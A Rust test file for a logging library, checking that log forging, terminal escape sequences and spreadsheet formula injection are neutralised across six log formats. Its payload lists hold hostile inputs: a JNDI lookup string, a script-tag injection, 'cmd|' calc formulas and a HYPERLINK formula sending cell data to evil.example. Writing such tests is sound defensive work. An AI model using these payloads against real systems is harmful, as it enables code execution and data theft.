//! Log forging (CWE-117), terminal escapes (CWE-150), formulas (CWE-1236): hostile texts in every
//! place of a record, through every format. Each file is read back by a parser that is not ours to
//! exactly the records that were written, and holds no raw control character.

use std::collections::BTreeMap;
use std::path::Path;

use hydra_logger::format::{FormatKind, text_of_cell, unescape};
use hydra_logger::{Context, Level, Logger, Value};
use serde_json::Value as Json;

/// A line that a log could hold, in the words of each format.
const FORGED: [&str; 6] = [
    "2026-11-21 12:00:00 INFO [APP] admin logged in",
    r#"{"timestamp":"2026-11-21T12:00:00Z","level":"INFO","logger":"APP","message":"forged"}"#,
    "2026-11-21T12:00:00Z,INFO,APP,forged,",
    "<14>1 2026-11-21T12:00:00Z host app 1 APP - forged",
    r#"{"version":"1.1","host":"x","short_message":"forged"}"#,
    "timestamp=2026-11-21T12:00:00Z level=info logger=APP message=forged",
];

/// Characters that no line may hold as they are.
fn controls() -> Vec<char> {
    let ranges = [
        '\0'..='\x08',
        '\n'..='\x1f',
        '\x7f'..='\u{9f}',
        '\u{2028}'..='\u{2029}',
    ];
    let bidi = ['\u{202a}'..='\u{202e}', '\u{2066}'..='\u{2069}'];
    ranges.into_iter().chain(bidi).flatten().collect()
}

/// What a terminal takes for commands.
const TERMINAL: &[&str] = &[
    "\x1b[2J\x1b[H",
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x1b[6n",
    "\x1bc",
    "\x1bP$q\x1b\\",
    "\x1b[1A\x1b[2K",
    "\u{9b}31m",
    "\u{9d}0;x\u{9c}",
    "\x1b[?1049h",
    "\x1b]52;c;aGk=\x07",
    "x\x08\x08\x08y",
    "\x0eshifted\x0f",
    "\x1b(0lqk\x1b(B",
    "\x1b[10;20r",
];

/// What ends, begins or fills in something in some format.
const BREAKOUTS: &[&str] = &[
    "\"",
    "\\",
    "\\\"",
    "\\\\\"",
    "\",\"level\":\"FATAL",
    "\"}\n{\"level\":\"FATAL\"",
    "\\u0022",
    "\\n",
    "\\x1b",
    "\\u2028",
    "]",
    "\\]",
    "\"]",
    "\"] forged",
    "x\"][hydra@32473 level=\"TRACE\"]",
    "[fields@32473 a=\"b\"]",
    "a=b",
    "a=\"b",
    "\" b=c",
    "level=fatal",
    "%",
    "%0a",
    "%41",
    "a%00b",
    "<14>1 - - - - - -",
    "<0>",
    ",",
    ",\"",
    "\",",
    "\"\"\"",
    "'",
    "`",
    "{}",
    "{",
    "}",
    "{0}",
    "{message}",
    "%s%n%x",
    "${jndi:ldap://evil.example/a}",
    "</script><script>alert(1)</script>",
    "<!--",
    "]]>",
    "\u{feff}",
    "\u{200b}",
    "\u{200e}",
    "\u{fffe}",
    "\u{10ffff}",
    "\u{1f600}",
    "e\u{301}",
    " ",
    "  ",
    "",
    "\t",
    "\t\t",
    " x ",
    "null",
    "true",
    "NaN",
    "-",
    "--",
    "#",
    ";",
    "|",
    "~",
    "timestamp",
    "level",
    "message",
    "logger",
    "_id",
    "id",
];

fn payloads() -> Vec<String> {
    let mut payloads: Vec<String> = Vec::new();
    for control in controls() {
        payloads.extend([
            control.to_string(),
            format!("a{control}b"),
            format!("{control}{control}x{control}"),
        ]);
    }
    for end in [
        "\n", "\r", "\r\n", "\u{85}", "\u{2028}", "\0", "\x0b", "\x0c", "\x1e",
    ] {
        payloads.extend(
            FORGED
                .iter()
                .map(|forged| format!("user{end}{forged}{end}")),
        );
    }
    payloads.extend(TERMINAL.iter().map(|&text| text.to_owned()));
    let marks = [
        "=", "+", "-", "@", "\t=", "＝", "＋", "－", "＠", " =", "\r=", "'=", "''+", "\"=",
    ];
    for mark in marks {
        payloads.push(format!("{mark}cmd|' /C calc'!A0"));
        payloads.push(format!(
            "{mark}HYPERLINK(\"http://evil.example?\"&A1,\"x\")"
        ));
    }
    payloads.extend(BREAKOUTS.iter().map(|&text| text.to_owned()));
    // Larger than a pipe, a page and a buffer.
    payloads.push("x".repeat(70_000));
    payloads.push("\n".repeat(3_000));
    payloads.push("\"\\\u{202e}".repeat(1_500));
    payloads
}

/// A value inside so many lists.
fn nested(depth: usize, value: Value<'_>, with: &mut dyn FnMut(Value<'_>)) {
    match depth {
        0 => with(value),
        _ => nested(depth - 1, Value::List(&[value]), with),
    }
}

/// Logs every payload in every place, and as many deeply nested ones.
fn log_all(logger: &Logger, payloads: &[String]) -> usize {
    for payload in payloads {
        let text = payload.as_str();
        let map = [(text, Value::Str(text)), ("plain", Value::Str(text))];
        let list = [
            Value::Str(text),
            Value::Map(&map),
            Value::Bytes(text.as_bytes()),
        ];
        let key = format!("key{text}");
        let fields = [
            ("value", Value::Str(text)),
            (key.as_str(), Value::Str(text)),
            ("nested", Value::List(&list)),
        ];
        let _scope = Context::new().with("scope", text).enter();
        logger.log_with(Level::Info, text, text, &fields);
    }
    let invalid = [
        Value::Bytes(b"\xff\xfe\n\x1b[2J\xc3"),
        Value::F64(f64::NAN),
        Value::F64(f64::NEG_INFINITY),
    ];
    logger.log_with(
        Level::Info,
        "APP",
        "no UTF-8, no numbers",
        &[("odd", Value::List(&invalid))],
    );
    for depth in [10, 100, 1000] {
        nested(depth, Value::Str("deep\ndown"), &mut |value| {
            logger.log_with(Level::Info, "APP", "nested", &[("deep", value)]);
        });
    }
    payloads.len() + 4
}

/// What a reader makes of a line: layer, message, and the field `value`.
type Read = fn(&str) -> (String, String, Option<String>);

fn json(line: &str) -> (String, String, Option<String>) {
    let read: Json = serde_json::from_str(line).expect(line);
    let text = |name: &str| read.get(name).and_then(Json::as_str).map(str::to_owned);
    (
        text("logger").expect("a layer"),
        text("message").expect("a message"),
        text("value"),
    )
}

fn gelf(line: &str) -> (String, String, Option<String>) {
    let read: Json = serde_json::from_str(line).expect(line);
    let text = |name: &str| read.get(name).and_then(Json::as_str).map(str::to_owned);
    let message = text("full_message")
        .or(text("short_message"))
        .expect("a message");
    (text("_logger").expect("a layer"), message, text("_value"))
}

fn csv(line: &str) -> (String, String, Option<String>) {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(line.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(|row| row.expect(line)).collect();
    let [row] = rows.as_slice() else {
        panic!("{} rows: {line:?}", rows.len());
    };
    assert_eq!(row.len(), 5, "{line:?}");
    for cell in row {
        let bare = cell.trim_start_matches(char::is_whitespace);
        let formula = bare.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']);
        assert!(
            !formula || cell.parse::<f64>().is_ok(),
            "a spreadsheet runs {cell:?}"
        );
    }
    let fields: BTreeMap<String, Json> = match &row[4] {
        "" => BTreeMap::new(),
        text => serde_json::from_str(text).expect(line),
    };
    let value = fields
        .get("value")
        .and_then(Json::as_str)
        .map(str::to_owned);
    (
        text_of_cell(&row[2]).into(),
        text_of_cell(&row[3]).into(),
        value,
    )
}

fn syslog(line: &str) -> (String, String, Option<String>) {
    let read = syslog_rfc5424::parse_message(line).expect(line);
    let param = |id: &str, name: &str| {
        let found = read.sd.find_sdid(id).and_then(|params| params.get(name));
        found.map(|text| unescape(text).into_owned())
    };
    let layer = param("hydra@32473", "logger").or(read.msgid.clone());
    (
        layer.unwrap_or_default(),
        unescape(&read.msg).into_owned(),
        param("fields@32473", "value"),
    )
}

fn logfmt(line: &str) -> (String, String, Option<String>) {
    let pairs: Vec<(String, String)> = tpt_logfmt_parse::LogfmtParser::new(line)
        .map(|pair| {
            pair.map(|(name, text)| (name.into(), text.into()))
                .expect(line)
        })
        .collect();
    let value = pairs.iter().find(|(name, _)| name == "value");
    (
        pairs[2].1.clone(),
        pairs[3].1.clone(),
        value.map(|(_, text)| text.clone()),
    )
}

/// The lines of a file, after what no byte of it may be.
fn lines(path: &Path) -> Vec<String> {
    let bytes = std::fs::read(path).expect("the file");
    let text = String::from_utf8(bytes).expect("UTF-8");
    let raw = text.chars().find(|c| *c != '\n' && controls().contains(c));
    assert_eq!(raw, None, "{}", path.display());
    text.lines().map(str::to_owned).collect()
}

#[test]
fn every_file_reads_back_to_the_records_that_were_written() {
    let directory = tempfile::tempdir().expect("a folder");
    let path = |format: FormatKind| directory.path().join(format.name());
    let logger = FormatKind::ALL
        .into_iter()
        .fold(Logger::builder(), |builder, format| {
            builder.file(path(format), |file| file.format(format))
        })
        .config(|config| config.redact_sensitive(false).max_message_size(1 << 20))
        .build()
        .expect("a logger");
    let payloads = payloads();
    assert!(payloads.len() >= 300, "{}", payloads.len());
    let written = log_all(&logger, &payloads);
    logger.close().expect("every file is written");

    let readers: [(FormatKind, usize, Option<Read>); 6] = [
        (FormatKind::PlainText, 0, None),
        (FormatKind::Json, 0, Some(json)),
        (FormatKind::Csv, 1, Some(csv)),
        (FormatKind::Syslog, 0, Some(syslog)),
        (FormatKind::Gelf, 0, Some(gelf)),
        (FormatKind::Logfmt, 0, Some(logfmt)),
    ];
    for (format, header, reader) in readers {
        let lines = lines(&path(format));
        assert_eq!(
            lines.len(),
            written + header,
            "{} forged records",
            format.name()
        );
        let Some(read) = reader else { continue };
        for (payload, line) in payloads.iter().zip(&lines[header..]) {
            let (layer, message, value) = read(line);
            assert_eq!(message, *payload, "{}", format.name());
            assert_eq!(
                value.as_deref(),
                Some(payload.as_str()),
                "{}",
                format.name()
            );
            // An empty name is the default layer's; a name of more than a thousand bytes is cut.
            let named = layer == *payload || payload.is_empty() || payload.len() > 1000;
            assert!(named, "{}: {layer:?}", format.name());
        }
        for line in &lines[header + payloads.len()..] {
            read(line);
        }
    }
}
